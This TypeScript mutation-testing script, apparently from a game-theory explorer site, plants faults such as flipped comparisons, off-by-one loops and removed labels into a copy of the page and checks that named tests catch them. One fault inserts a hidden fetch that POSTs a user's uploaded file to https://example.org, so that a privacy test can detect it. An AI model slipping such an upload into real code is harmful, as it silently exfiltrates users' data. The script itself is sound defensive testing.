/**
 * Plants faults in the page, one at a time, each of which a test must notice: `npm run planted`. The page with the fault
 * is built in a folder of its own; the tests look at that one.
 */

import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from './browser.js';

interface Fault {
  readonly file: string;
  /** What stands there once, and what is put in its place. */
  readonly from: string;
  readonly to: string;
  /** The file of tests, and a pattern of the names of those that must notice it. */
  readonly tests: string;
  readonly names: string;
}

const FAULTS: readonly Fault[] = [
  { file: 'play/game.ts', from: 'if (isP === true) return bite;', to: 'if (isP === false) return bite;', tests: 'play', names: '4,4,3,2: an erratic reader' },
  { file: 'play/order-game.ts', from: 'for (let i = elements - 1; i >= 0; i--) {', to: 'for (let i = 0; i < elements; i++) {', tests: 'play', names: 'order-3-3-3: a perfect reader' },
  { file: 'play/setup.ts', from: '`${row + 1}.${length}`', to: '`${row + 1}.${length + 1}`', tests: 'play', names: 'a link holds the game' },
  { file: 'play/games.ts', from: 'game !== null && poisonless', to: 'game === null && poisonless', tests: 'play', names: 'the misère switch' },
  { file: 'three-row/sheet.ts', from: 'const diagonal = row[0] - k;', to: 'const diagonal = row[0] - k + 1;', tests: 'sheets', names: 'each line of the sieve' },
  { file: 'three-row/sheet.ts', from: 'for (let left = 1; left <= i', to: 'for (let left = 2; left <= i', tests: 'sheets', names: 'each line of the sieve' },
  { file: 'three-row/sheet.ts', from: 'const i = row[j] - (j + b);', to: 'const i = row[j] - (j + k);', tests: 'sheets', names: 'superimposed' },
  { file: 'three-row/sheet-canvas.tsx', from: 'if (normalise || !moved.current) fit();', to: 'if (!moved.current) fit();', tests: 'sheets', names: 'k runs by itself' },
  { file: 'three-row/classification.ts', from: 'for (let b = 0; b < r; b++) tryMove(3, b);', to: 'for (let b = 1; b < r; b++) tryMove(3, b);', tests: 'sheets', names: 'a tap shows' },
  { file: 'three-row/bar.tsx', from: 'width={(length - kept[row]) * unit}', to: 'width={length * unit}', tests: 'sheets', names: 'a tap shows' },
  { file: 'diet/classification.ts', from: 'Math.floor(room / step) + 1', to: 'Math.floor(room / step) + 2', tests: 'diet', names: 'positions that claims lead|is what trying' },
  { file: 'use-cursor.ts', from: 'now.pinned || isSame', to: 'isSame', tests: 'sheet-reading', names: 'a click pins' },
  { file: 'verify/facts.ts', from: 'fact.numbers[i] >= least', to: 'fact.numbers[i] > least', tests: 'verify', names: 'a manifest that is not kept|chosen one by one' },
  { file: 'verify/facts.ts', from: 'wanted.period % found.period === 0', to: 'wanted.period === found.period', tests: 'verify', names: 'a manifest that is not kept' },
  { file: 'verify/manifest.ts', from: 'own === home + file', to: 'own.endsWith(file)', tests: 'verify', names: 'the folder of the manifest counts' },
  { file: 'verify/verify-page.tsx', from: 'const MOST_BYTES = 2 ** 27;', to: 'const MOST_BYTES = 2 ** 29;', tests: 'verify', names: 'a huge file' },
  { file: 'verify/verify-page.tsx', from: "const bytes = new Uint8Array(await file.arrayBuffer());", to: "const bytes = new Uint8Array(await file.arrayBuffer());\n      void fetch('https://example.org', { method: 'POST', body: bytes }).catch(() => null);", tests: 'verify', names: 'nothing is uploaded' },
  { file: 'three-row/sheet-canvas.tsx', from: '        aria-label={label}\n', to: '', tests: 'pages', names: 'what changes is said' },
  { file: 'style.css', from: '--quiet: #5d564d;', to: '--quiet: #b0a79c;', tests: 'pages', names: 'no accessibility violation, light, 1280' },
  { file: 'style.css', from: '@media screen {', to: '@media all {', tests: 'pages', names: 'on paper' },
  { file: 'statements/links.ts', from: 'k: r, at:', to: 'k: q, at:', tests: 'statements', names: 'the links lead to views' },
  { file: 'play/board.tsx', from: 'if (bitten.current &&', to: 'if (!bitten.current &&', tests: 'play-board', names: 'after a bite' },
  { file: 'play/lengths.ts', from: 'Math.max(top.best, length)', to: 'Math.min(top.best, length)', tests: 'play-board', names: 'how long the game' },
  { file: 'style.css', from: '100cqw / (var(--columns) * var(--aspect)), ', to: '', tests: 'play-board', names: '200 columns fit' },
  { file: 'style.css', from: 'height: var(--side); image', to: 'height: 60rem; image', tests: 'stage', names: 'a board and a slice of Diet' },
  { file: 'play/board-drawing.ts', from: "Number(outcome.type === 'P')", to: "Number(outcome.type === 'N')", tests: 'save', names: 'board' },
  { file: 'three-row/row-view.tsx', from: 'point(event, cursor.hover);', to: '', tests: 'stage', names: 'by rows' },
  { file: 'three-row/sheet-canvas.tsx', from: '      follow(cell);\n', to: '', tests: 'stage', names: 'follows its cursor' },
  { file: 'style.css', from: 'height: calc(100dvh - var(--header)); ', to: '', tests: 'stage', names: 'fit a window' },
  { file: 'save/pen.ts', from: 'this.path += `L', to: 'this.path += `M', tests: 'save', names: 'sheet-11' },
];

const web = join(ROOT, 'web');

/** Whether the tests notice the fault. */
function isNoticed({ file, from, to, tests, names }: Fault): boolean {
  const folder = mkdtempSync(join(web, 'planted-'));
  try {
    for (const name of ['src', 'build.mjs', 'tsconfig.json']) cpSync(join(web, 'explorer', name), join(folder, name), { recursive: true });
    const path = join(folder, 'src', file);
    const parts = readFileSync(path, 'utf8').split(from);
    if (parts.length !== 2) throw new Error(`${file} has '${from}' ${parts.length - 1} times`);
    writeFileSync(path, parts.join(to));
    const built = spawnSync(process.execPath, [join(folder, 'build.mjs')], { stdio: 'inherit' });
    if (built.status !== 0) throw new Error(`the page with the fault in ${file} cannot be built`);
    const ran = spawnSync(process.execPath, ['--test', '--test-reporter=tap', `--test-name-pattern=${names}`, join(web, 'explorer/dist-test', `${tests}.test.js`)], {
      env: { ...process.env, EXPLORER_BUILT: join(folder, 'dist') }, encoding: 'utf8',
    });
    if (!/^# (pass|fail) [1-9]/m.test(ran.stdout)) throw new Error(`no test is called ${names}`);
    return ran.status !== 0;
  } finally {
    rmSync(folder, { recursive: true });
  }
}

const wanted = process.argv[2] ?? '';
let missed = 0;
for (const fault of FAULTS.filter(({ file }) => file.includes(wanted))) {
  const start = performance.now();
  const noticed = isNoticed(fault);
  if (!noticed) missed++;
  console.log(`${noticed ? 'noticed' : 'MISSED '} ${((performance.now() - start) / 1000).toFixed(0).padStart(3)} s  ${fault.file}: ${JSON.stringify(fault.to)}`);
}
process.exitCode = missed === 0 ? 0 : 1;
